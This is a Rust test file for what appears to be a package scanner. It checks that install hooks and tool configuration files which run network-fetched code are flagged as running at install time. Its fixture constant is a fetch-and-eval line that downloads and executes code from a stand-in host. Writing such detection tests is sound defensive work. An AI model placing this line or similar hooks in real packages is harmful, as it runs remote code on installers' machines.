use super::{Defined, is_like, is_path_like, lines_of_rules};
use crate::flow::testing::remote_code;
use crate::unpack::text_file as file;
use customs_model::Zone;

const GO: &str = "fetch('https://a.invalid/b').then(r => r.text()).then(eval);\n";

/// When what comes over the network is run, at the earliest, for a hook with a file.
fn runs(hook: &str, more: &str, path: &str, code: &str) -> Option<Zone> {
    let manifest = format!(
        r#"{{"name": "a", "version": "1.0.0", "scripts": {{"postinstall": {}{more}}}}}"#,
        serde_json::Value::from(hook)
    );
    remote_code(vec![
        file("package/package.json", &manifest),
        file(&format!("package/{path}"), code),
    ])
}

#[test]
fn what_a_hook_starts_through_a_tool_runs_at_install() {
    for (hook, more) in [
        ("run-s z", r#", "z": "node x.js""#),
        ("run-p z:*", r#", "z:a": "node x.js""#),
        ("npm-run-all -p z", r#", "z": "node x.js""#),
        ("concurrently \"node x.js\" \"echo\"", ""),
        ("concurrently -n a npm:z", r#", "z": "node x.js""#),
        ("nodemon x.js", ""),
        ("nodemon --exec \"node x.js\"", ""),
        ("pm2 start x.js", ""),
        ("forever start x.js", ""),
        ("babel-node x.js", ""),
        ("mocha x.js", ""),
        ("env-cmd -f .env node x.js", ""),
        ("dotenvx run -- node x.js", ""),
        ("find . -name 'x.js' -exec node {} \\;", ""),
        ("node *.js", ""),
        ("for f in *.js; do node $f; done", ""),
        ("node <<< \"require('./x.js')\"", ""),
        ("echo \"require('./x.js')\" | node", ""),
        ("node $PWD/x.js", ""),
        ("node $INIT_CWD/node_modules/a/x.js", ""),
    ] {
        assert_eq!(runs(hook, more, "x.js", GO), Some(Zone::Install), "{hook}");
    }
}

#[test]
fn code_that_a_tool_reads_as_its_configuration_runs_with_the_tool() {
    for (hook, path) in [
        ("gulp", "gulpfile.js"),
        ("webpack", "webpack.config.js"),
        ("rollup -c", "rollup.config.mjs"),
        ("rollup -c other.js", "other.js"),
        ("vite build", "vite.config.ts"),
        ("eslint .", ".eslintrc.js"),
        ("npx vite build", "vite.config.ts"),
    ] {
        assert_eq!(runs(hook, "", path, GO), Some(Zone::Install), "{hook}");
    }
    let exported = format!("module.exports = g => {{ {GO} }}");
    assert_eq!(
        runs("grunt", "", "Gruntfile.js", &exported),
        Some(Zone::Install)
    );
}

#[test]
fn what_a_hook_does_not_start_does_not_run() {
    for (hook, more, path) in [
        ("run-s y", r#", "y": "echo", "z": "node x.js""#, "x.js"),
        (
            "concurrently npm:y",
            r#", "y": "echo", "z": "node x.js""#,
            "x.js",
        ),
        ("rollup x.ts", "", "rollup.config.js"),
        ("webpack", "", "vite.config.js"),
        ("echo x.js", "", "x.js"),
        ("find . -name '*.txt' -exec node {} \\;", "", "x.js"),
        ("echo node x.js", "", "x.js"),
        ("vite build", "", "lib/vite.config.js"),
    ] {
        assert!(runs(hook, more, path, GO) < Some(Zone::Install), "{hook}");
    }
}

#[test]
fn rules_run_the_lines_of_what_they_need_first() {
    let text = ".PHONY: all\nX := 1\nall: one\n\t@two $$A\none:\n\tone\nother:\n\tother\n";
    assert_eq!(
        lines_of_rules(text, &[], &Defined::default()),
        ["one", "two $A"]
    );
    assert_eq!(
        lines_of_rules(text, &["other"], &Defined::default()),
        ["other"]
    );
}

#[test]
fn patterns_mean_what_their_tools_take_them_for() {
    assert!(is_like("build:*", "build:js"));
    assert!(!is_like("build:*", "build:js:min"));
    assert!(is_like("build:**", "build:js:min"));
    assert!(!is_like("build", "build:js"));
    assert!(is_path_like("*.js", "a.js"));
    assert!(!is_path_like("*.js", "lib/a.js"));
    assert!(is_path_like("**/a.js", "lib/a.js"));
    assert!(is_path_like("lib/*/a.*", "lib/x/a.js"));
}

#[test]
fn rules_of_make_hold_the_values_of_their_variables_and_end_where_they_name_themselves() {
    let text =
        "A = $(A)$(A)\nP := node\nall: b\n\t@$(P) ${X} $$HOME $(shell id) $(A)\nb:\n\t$(CC) x.c\n";
    let lines = lines_of_rules(text, &[], &Defined::default());
    assert_eq!(lines[0], "cc x.c");
    assert!(
        lines[1].starts_with("node ${X} $HOME $(id) $(A)"),
        "{}",
        lines[1]
    );
    assert!(lines[1].len() < 1 << 10);
}
